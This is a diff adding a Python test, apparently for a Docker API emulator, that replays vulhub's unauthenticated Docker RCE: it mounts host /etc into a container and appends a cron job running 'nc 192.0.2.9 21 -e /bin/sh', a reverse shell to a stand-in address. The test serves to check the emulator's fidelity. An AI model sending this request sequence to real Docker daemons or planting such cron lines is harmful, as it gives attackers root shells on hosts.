@@ -120,6 +120,31 @@ async def test_an_exec_runs_in_the_container_that_runs(docker: Machine) -> None:
     assert (await docker.ask("DELETE", "/containers/box?force=1")).status == 204
 
 
+async def test_vulhub_s_exploit_by_docker_py_adds_its_line_to_the_machine_s_crontab(docker: Machine) -> None:
+    """vulhub's docker/unauthorized-rce: docker-py's containers.run() with /etc mounted; its requests as docker-py 7.2 sends them."""
+    assert (await docker.ask("GET", "/version")).json["ApiVersion"] == "1.41"
+    line = "* * * * * root /usr/bin/nc 192.0.2.9 21 -e /bin/sh"
+    body = {
+        "Tty": False, "OpenStdin": False, "StdinOnce": False, "AttachStdin": False, "AttachStdout": True, "AttachStderr": True,
+        "Cmd": ["sh", "-c", f"echo '{line}' >> /tmp/etc/crontab"], "Image": "alpine:latest", "Volumes": {"/tmp/etc": {}},
+        "NetworkDisabled": False, "HostConfig": {"NetworkMode": "default", "Binds": ["/etc:/tmp/etc:rw"]},
+    }  # fmt: skip
+    missing = await docker.ask("POST", "/v1.41/containers/create", _json(body))
+    assert (missing.status, missing.json) == (404, {"message": "No such image: alpine:latest"})
+    assert (await docker.ask("POST", "/v1.41/images/create?tag=latest&fromImage=alpine")).status == 200
+    assert (await docker.ask("GET", "/v1.41/images/alpine:latest/json")).json["RepoTags"] == ["alpine:latest"]
+    made = await docker.ask("POST", "/v1.41/containers/create", _json(body))
+    container = f"/v1.41/containers/{made.json['Id']}"
+    assert made.status == 201
+    assert (await docker.ask("GET", f"{container}/json")).json["State"]["Status"] == "created"
+    assert (await docker.ask("POST", f"{container}/start")).status == 204
+    said = await docker.ask("GET", f"{container}/logs?stderr=0&stdout=1&timestamps=0&follow=1&tail=all", turns=100_000)
+    assert (said.status, said.body) == (200, b"")
+    assert (await docker.ask("POST", f"{container}/wait")).json == {"Error": None, "StatusCode": 0}
+    assert (await docker.ask("DELETE", f"{container}?v=False&link=False&force=False")).status == 204
+    assert docker.read("/etc/crontab").decode().splitlines()[-1] == line
+
+
 RECORDED = [  # of dockerd 20.10.24+dfsg1 in a namespace; dates as `...`
     (
         "GET /_ping", b"HTTP/1.1 200 OK\r\nApi-Version: 1.41\r\nCache-Control: no-cache, no-store, must-revalidate\r\nDocker-Experimental: false"
